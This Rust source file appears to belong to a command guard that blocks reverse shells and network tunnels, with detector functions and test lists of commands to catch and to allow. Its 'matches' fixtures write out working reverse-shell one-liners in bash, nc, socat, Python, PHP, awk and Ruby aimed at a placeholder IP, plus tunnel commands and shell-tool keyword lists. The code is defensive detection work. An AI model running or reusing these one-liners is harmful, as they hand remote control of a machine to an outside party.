//! Shells for others, and ways in.

use super::{Category, Check, Rule, RuleInput, Tier};
use crate::{flatten::is_loopback, programs::SHELLS, shell::RedirectKind};

pub(super) const RULES: &[Rule] = &[
    Rule {
        id: "reverse-shell",
        category: Category::Tunnels,
        tier: Tier::Block,
        finds: "connects a shell to the network",
        instead: "Run commands here; nothing outside needs a shell on this machine.",
        check: Check::Command(reverse_shell),
        matches: &[
            "bash -i >& /dev/tcp/203.0.113.9/80 0>&1",
            "nc -e /bin/sh 203.0.113.9 4444",
            "ncat 203.0.113.9 99 --sh-exec bash",
            "socat EXEC:sh TCP:203.0.113.9:99",
            "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.9 99 > /tmp/f",
            "nc -lvp 4444 -e /bin/bash",
        ],
        passes: &[
            "nc -zv localhost 6379",
            "socat -V",
            "node server.js --port 4444 &",
            "(echo > /dev/tcp/127.0.0.1/5432) 2>/dev/null",
        ],
    },
    Rule {
        id: "reverse-shell-code",
        category: Category::Tunnels,
        tier: Tier::Block,
        finds: "connects a shell to the network in a one-liner",
        instead: "Run commands here; nothing outside needs a shell on this machine.",
        check: Check::Command(reverse_shell_code),
        matches: &[
            "python3 -c 'import socket,os;s=socket.socket();s.connect((\"203.0.113.9\",99));os.dup2(s.fileno(),0)'",
            "php -r '$s=fsockopen(\"203.0.113.9\",99);exec(\"sh <&3 >&3\");'",
            "awk 'BEGIN{s=\"/inet/tcp/0/203.0.113.9/99\";s|&getline}'",
            "ruby -rsocket -e 'c=TCPSocket.new(\"203.0.113.9\",99);exec \"sh\"'",
        ],
        passes: &[
            "python3 -c 'import socket; s=socket.socket(); s.bind((\"127.0.0.1\",0))'",
            "python3 -c 'import socket; print(socket.gethostname())'",
        ],
    },
    Rule {
        id: "tunnel",
        category: Category::Tunnels,
        tier: Tier::Block,
        finds: "opens a tunnel into or out of this machine",
        instead: "Use services on this machine only, and say if something must be reachable.",
        check: Check::Command(tunnel),
        matches: &[
            "ngrok http 3000",
            "cloudflared tunnel --url localhost:80",
            "ssh -R 80:localhost:80 host",
            "ssh -D 1080 host",
            "npx localtunnel --port 3000",
            "tailscale funnel 3000",
        ],
        passes: &["ssh -T git@github.com", "ngrok --version", "tailscale status"],
    },
];

fn reverse_shell(input: &RuleInput<'_>) -> Option<String> {
    let command = input.command;
    let listens_or_calls = command.is(&["nc", "ncat", "netcat", "pwncat", "rustcat", "rcat"])
        && (command.has("e", &["exec", "sh-exec", "lua-exec"])
            || (command.has("c", &[]) && !command.asks_for_help()));
    let runs = command.is(&["socat"])
        && command.args.iter().any(|arg| {
            let upper = arg.to_uppercase();
            upper.starts_with("EXEC:") || upper.starts_with("SYSTEM:") || upper.starts_with("SHELL:")
        });
    let is_network = |path: &str| {
        let rest = path.strip_prefix("/dev/tcp/").or_else(|| path.strip_prefix("/dev/udp/"));
        rest.is_some_and(|rest| !is_loopback(rest))
    };
    let connected = (SHELLS.contains(&command.program.as_str()) || command.is(&["exec", ""]))
        && command
            .redirects
            .iter()
            .any(|redirect| is_network(&redirect.path) && redirect.kind != RedirectKind::Here);
    let feeds = SHELLS.contains(&command.program.as_str())
        && command
            .stdin
            .programs
            .iter()
            .any(|program| ["nc", "ncat", "socat", "telnet", "openssl"].contains(&program.as_str()));
    let interactive = SHELLS.contains(&command.program.as_str())
        && command.has("i", &[])
        && command.is_piped
        && command.stdin.programs.iter().any(|program| program == "cat");
    let known = command.is(&["msfvenom", "msfconsole", "gs-netcat", "meterpreter", "xterm"])
        && (command.program != "xterm" || command.has_word(&["-display"]));
    input.found_if(listens_or_calls || runs || connected || feeds || interactive || known)
}

fn reverse_shell_code(input: &RuleInput<'_>) -> Option<String> {
    let code = input.command.code.as_deref()?;
    let has = |words: &[&str]| words.iter().any(|word| code.contains(word));
    let connects = has(&[
        "connect(",
        "create_connection",
        "fsockopen",
        "TCPSocket",
        "net.Socket",
        "createConnection",
        "IO::Socket",
        "connect_ex",
        "stream_socket_client",
        "socket(S",
        "net.connect",
    ]);
    let shells = has(&[
        "dup2",
        "pty.spawn",
        "/bin/sh",
        "/bin/bash",
        "subprocess",
        "exec(",
        "exec \"",
        "spawn(",
        "os.system",
        "popen",
        "sh -i",
        "cmd.exe",
        "child_process",
    ]);
    input.found_if(
        (connects && shells)
            || code.contains("/inet/tcp")
            || code.contains("/inet/udp")
            || code.contains("/dev/tcp/"),
    )
}

fn tunnel(input: &RuleInput<'_>) -> Option<String> {
    let command = input.command;
    if command.asks_for_help() {
        return None;
    }
    let services = command.is(&[
        "ngrok",
        "localtunnel",
        "lt",
        "bore",
        "frpc",
        "frps",
        "chisel",
        "sshuttle",
        "serveo",
        "pagekite",
        "zrok",
        "localxpose",
        "loclx",
        "expose",
        "gost",
        "inlets",
        "proxytunnel",
        "iodine",
        "dnscat",
        "dnscat2",
        "sshd",
        "dropbear",
        "telnetd",
        "ttyd",
        "gotty",
        "wetty",
        "shellinaboxd",
        "tmate",
        "upterm",
        "vncserver",
        "x11vnc",
    ]) && !command.args.is_empty();
    let commands = command.runs(&[
        "cloudflared tunnel|access",
        "tailscale funnel|serve|up|ssh",
        "devtunnel host|create",
        "code tunnel",
        "vscode tunnel",
    ]);
    let ssh = command.is(&["ssh", "autossh", "plink"]) && command.has("RLDw", &[]) && forwards(input);
    input.found_if(services || commands || ssh)
}

/// The letters are options of their own, not part of a value.
fn forwards(input: &RuleInput<'_>) -> bool {
    input.command.args.iter().any(|arg| {
        let letters = arg.strip_prefix('-').filter(|rest| !rest.starts_with('-')).unwrap_or_default();
        let cluster: String = letters.chars().take_while(char::is_ascii_alphabetic).collect();
        cluster.chars().all(|letter| "fNnTtqvCAXYgRLDwk46aM".contains(letter))
            && cluster.contains(['R', 'L', 'D', 'w'])
    })
}
